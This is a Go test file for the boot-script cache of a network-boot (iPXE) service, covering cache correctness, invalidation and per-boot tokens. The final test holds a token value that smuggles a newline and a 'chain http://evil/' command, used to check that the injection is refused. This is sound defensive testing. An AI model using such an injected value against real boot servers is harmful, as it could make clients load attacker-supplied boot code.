package hostservices_test

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/dls-project/dls/core/bootscript"
	"github.com/dls-project/dls/core/hostservices"
	"github.com/dls-project/dls/sdk/host"
	"github.com/hashicorp/go-hclog"
)

// bootTokens hands out a new token at every call, as the session tracker
// does at every new boot.
type bootTokens struct {
	fakeSessions
	mu sync.Mutex
	n  int
}

func (b *bootTokens) Token(_ context.Context, client string) (string, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.n++
	return fmt.Sprintf("tok%04d-%s", b.n, client), nil
}

// fixedTokens hands out one token per client, whatever the boot: the same
// inputs for a cached and a fresh render.
type fixedTokens struct{ fakeSessions }

// TestScriptCacheEqualsFreshRender: a script served from the cache is the
// script rendered fresh from the same inputs, for every client, platform
// and template (built-in sanboot, kernel with token, CHAP, custom ones,
// one that reshapes the token, one that ignores it), asked twice.
func TestScriptCacheEqualsFreshRender(t *testing.T) {
	dir := t.TempDir()
	global := filepath.Join(dir, "site.tmpl")
	own := filepath.Join(dir, "pc-02.tmpl")
	_ = os.WriteFile(global, []byte("#!ipxe\necho site {{.Client}} {{.Token}} {{.CHAPSecret}}\nsanboot {{.ISCSIURI}}\n"), 0o644)
	_ = os.WriteFile(own, []byte("#!ipxe\necho short {{printf \"%.5s\" .Token}} {{len .Token}}\n"), 0o644)
	static := filepath.Join(dir, "static.tmpl")
	_ = os.WriteFile(static, []byte("#!ipxe\necho {{.Client}} never confirms\n"), 0o644)
	custom, err := bootscript.LoadTemplates(global, map[string]string{"pc-02": own})
	if err != nil {
		t.Fatal(err)
	}
	ignoring, err := bootscript.LoadTemplates(static, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name string
		tpl  *bootscript.Templates
	}{{"built-in", nil}, {"custom", custom}, {"ignores the token", ignoring}} {
		t.Run(tc.name, func(t *testing.T) {
			st := bootStore(t)
			fs := &fixedTokens{}
			cached := hostservices.New(boot, st, nil, hclog.NewNullLogger(), hostservices.WithSessions(fs), hostservices.WithTemplates(tc.tpl))
			fresh := hostservices.New(boot, st, nil, hclog.NewNullLogger(), hostservices.WithSessions(fs), hostservices.WithTemplates(tc.tpl), hostservices.WithoutScriptCache())
			for _, mac := range []string{"52:54:00:aa:00:01", "52:54:00:aa:00:02", "52:54:00:aa:00:03"} {
				for _, platform := range []string{hostservices.PlatformEFI, hostservices.PlatformBIOS, ""} {
					want := scriptOf(t, fresh, mac, platform)
					if want == "" {
						t.Fatalf("%s %q: no script", mac, platform)
					}
					for i := 0; i < 2; i++ {
						if got := scriptOf(t, cached, mac, platform); got != want {
							t.Fatalf("%s %q, request %d: cached script\n%s\nwant the fresh render\n%s", mac, platform, i+1, got, want)
						}
					}
				}
			}
		})
	}
}

// TestScriptCacheInvalidates: a change of the client, of its image's boot
// profile or of the templates is in the next script.
func TestScriptCacheInvalidates(t *testing.T) {
	ctx := context.Background()
	st := bootStore(t)
	s := hostservices.New(boot, st, nil, hclog.NewNullLogger(), hostservices.WithSessions(&fixedTokens{}))
	const pc03, pc02 = "52:54:00:aa:00:03", "52:54:00:aa:00:02"
	if got := scriptOf(t, s, pc03, ""); !strings.Contains(got, "pc03-secret-1") {
		t.Fatalf("pc-03's script lacks its CHAP secret:\n%s", got)
	}
	c, err := st.GetClient(ctx, "pc-03")
	if err != nil {
		t.Fatal(err)
	}
	c.CHAPSecret = "pc03-secret-2"
	if err := st.PutClient(ctx, c); err != nil {
		t.Fatal(err)
	}
	if got := scriptOf(t, s, pc03, ""); !strings.Contains(got, "pc03-secret-2") || strings.Contains(got, "pc03-secret-1") {
		t.Fatalf("pc-03's script after its secret's rotation:\n%s", got)
	}
	// The image's boot profile changes.
	if got := scriptOf(t, s, pc02, hostservices.PlatformBIOS); !strings.Contains(got, "root=/dev/sda rw") {
		t.Fatalf("pc-02's script:\n%s", got)
	}
	img, err := st.GetImage(ctx, "linux")
	if err != nil {
		t.Fatal(err)
	}
	img.Boot.Cmdline = "iscsi_auto root=/dev/sdb ro"
	if err := st.PutImage(ctx, img); err != nil {
		t.Fatal(err)
	}
	if got := scriptOf(t, s, pc02, hostservices.PlatformBIOS); !strings.Contains(got, "root=/dev/sdb ro") {
		t.Fatalf("pc-02's script after its image's change:\n%s", got)
	}
	// The client moves to another image.
	c, err = st.GetClient(ctx, "pc-02")
	if err != nil {
		t.Fatal(err)
	}
	c.Image = "lab"
	if err := st.PutClient(ctx, c); err != nil {
		t.Fatal(err)
	}
	if got := scriptOf(t, s, pc02, hostservices.PlatformBIOS); strings.Contains(got, "kernel ") || !strings.Contains(got, "sanboot ") {
		t.Fatalf("pc-02's script after moving to a sanboot image:\n%s", got)
	}
	// The template file is loaded again (reload).
	tmpl := filepath.Join(t.TempDir(), "site.tmpl")
	for _, word := range []string{"first", "second"} {
		_ = os.WriteFile(tmpl, []byte("#!ipxe\necho "+word+"\n"), 0o644)
		ts, err := bootscript.LoadTemplates(tmpl, nil)
		if err != nil {
			t.Fatal(err)
		}
		s.SetTemplates(ts)
		if got := scriptOf(t, s, pc03, ""); got != "#!ipxe\necho "+word+"\n" {
			t.Fatalf("script after loading the template with %q: %q", word, got)
		}
	}
}

// TestScriptCacheTokenPerBoot: two boots of a client get their own token,
// never the other boot's, from the built-in template and from one that
// names the token twice.
func TestScriptCacheTokenPerBoot(t *testing.T) {
	twice := filepath.Join(t.TempDir(), "twice.tmpl")
	_ = os.WriteFile(twice, []byte("#!ipxe\necho {{.Token}}\nkernel {{.KernelURL}} {{.ConfirmArgs}}\n"), 0o644)
	ts, err := bootscript.LoadTemplates(twice, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, tpl := range []*bootscript.Templates{nil, ts} {
		s := hostservices.New(boot, bootStore(t), nil, hclog.NewNullLogger(), hostservices.WithSessions(&bootTokens{}), hostservices.WithTemplates(tpl))
		const pc02 = "52:54:00:aa:00:02"
		first := scriptOf(t, s, pc02, hostservices.PlatformEFI)
		second := scriptOf(t, s, pc02, hostservices.PlatformEFI)
		if !strings.Contains(first, "tok0001-pc-02") || strings.Contains(first, "tok0002") {
			t.Fatalf("first boot's script:\n%s", first)
		}
		if !strings.Contains(second, "tok0002-pc-02") || strings.Contains(second, "tok0001") {
			t.Fatalf("second boot's script holds another boot's token:\n%s", second)
		}
		if strings.ReplaceAll(first, "tok0001", "tok0002") != second {
			t.Fatalf("the two boots' scripts differ in more than the token:\n%s\n%s", first, second)
		}
	}
}

// TestScriptCacheRefusesBadToken: a token that could add iPXE commands is
// refused from the cache as Render refuses it.
func TestScriptCacheRefusesBadToken(t *testing.T) {
	fs := &fixedTokens{}
	fs.tokens = map[string]string{"pc-02": "tok\nchain http://evil/"}
	s := hostservices.New(boot, bootStore(t), nil, hclog.NewNullLogger(), hostservices.WithSessions(fs))
	for i := 0; i < 2; i++ {
		peer := leaseOf(t, s, "52:54:00:aa:00:02")
		if _, err := s.Script(context.Background(), host.ScriptQuery{MAC: "52:54:00:aa:00:02", Peer: peer}); err == nil {
			t.Fatalf("request %d: a token with a newline was served", i+1)
		}
	}
}
